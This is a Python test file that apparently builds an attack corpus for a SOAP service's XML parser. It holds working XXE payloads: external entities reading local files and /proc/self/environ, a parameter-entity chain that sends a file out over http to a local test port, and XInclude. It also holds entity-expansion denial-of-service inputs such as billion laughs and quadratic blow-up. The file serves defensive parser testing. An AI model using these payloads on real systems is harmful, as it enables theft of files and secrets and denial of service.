"""Entities, external and exploding; what else could make an XML parser look elsewhere."""

from __future__ import annotations

from tests.attack.corpus.cases import case
from tests.soap.wire import call, envelope, operation


def with_doctype(subset: str, use: str = "", version: str = "") -> bytes:
    """A call of getVersionString below a DTD, with `use` in a child that nobody reads."""
    prolog = f"<?xml version='1.0'?>\n<!DOCTYPE Envelope {subset}>\n"
    return envelope(operation("getVersionString", f"<x>{use}</x>"), prolog=prolog)


case(
    "external entity: file",
    lambda at: with_doctype(f'[<!ENTITY e SYSTEM "file://{at.file}">]', "&e;"),
)
case(
    "external entity: http",
    lambda at: with_doctype(f'[<!ENTITY e SYSTEM "http://127.0.0.1:{at.port}/e">]', "&e;"),
)
case(
    "external entity: ftp",
    lambda at: with_doctype(f'[<!ENTITY e SYSTEM "ftp://127.0.0.1:{at.port}/e">]', "&e;"),
)
case(
    "external parameter entity",
    lambda at: with_doctype(f'[<!ENTITY % p SYSTEM "http://127.0.0.1:{at.port}/p.dtd"> %p; ]', "&e;"),
)
case(
    "external subset, never used",
    lambda at: with_doctype(f'SYSTEM "http://127.0.0.1:{at.port}/x.dtd"'),
    "SUCCESS",
)
case(
    "parameter entity that takes a file out over http",
    lambda at: with_doctype(
        f'[<!ENTITY % f SYSTEM "file://{at.file}">'
        f'<!ENTITY % d SYSTEM "http://127.0.0.1:{at.port}/d"> %d; %f;]'
    ),
    "SUCCESS",
)
case(
    "entity that names the server's own environment",
    with_doctype('[<!ENTITY e SYSTEM "file:///proc/self/environ">]', "&e;"),
)
case(
    "schema location and stylesheet that are elsewhere",
    lambda at: envelope(
        operation("getVersionString"),
        prolog=f"<?xml-stylesheet href='http://127.0.0.1:{at.port}/s' type='text/xsl'?>",
        attributes=f" xsi:schemaLocation='urn:condor http://127.0.0.1:{at.port}/condor.xsd'",
    ),
    "SUCCESS",
)
case(
    "XInclude",
    lambda at: call(
        "getVersionString",
        f"<i:include xmlns:i='http://www.w3.org/2001/XInclude' parse='text' href='file://{at.file}'/>",
    ),
    "SUCCESS",
)

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
case("billion laughs in a text", with_doctype(f'[<!ENTITY l0 "lol">{LAUGHS}]', "&l9;"))
case("billion laughs in an attribute", with_doctype(f'[<!ENTITY l0 "lol">{LAUGHS}]', "<y z='&l9;'/>"))
case(
    "billion laughs in parameter entities",
    with_doctype(
        "[<!ENTITY % l0 'lol'>" + LAUGHS.replace("ENTITY ", "ENTITY % ").replace("&", "&#37;") + "%l9;]"
    ),
)
case(
    "billion laughs as a default of an attribute",
    with_doctype(f'[<!ENTITY l0 "lol">{LAUGHS}<!ATTLIST y z CDATA "&l9;">]', "<y/>"),
)
case("quadratic blow-up", with_doctype(f'[<!ENTITY q "{"q" * 50_000}">]', "&q;" * 50_000))
case(
    "quadratic blow-up in attributes",
    with_doctype(f'[<!ENTITY q "{"q" * 50_000}">]', "<y z='&q;'/>" * 10_000),
)
case("an entity that is its own text", with_doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"))
case("an entity in an attribute that is its own text", with_doctype('[<!ENTITY a "&a;">]', "<y z='&a;'/>"))
case(
    "a DTD of a hundred thousand entities",
    with_doctype("[" + "".join(f'<!ENTITY e{n} "x">' for n in range(100_000)) + "]"),
)
case("a DTD that never ends", with_doctype("[" + "<!-- -->" * 100_000))
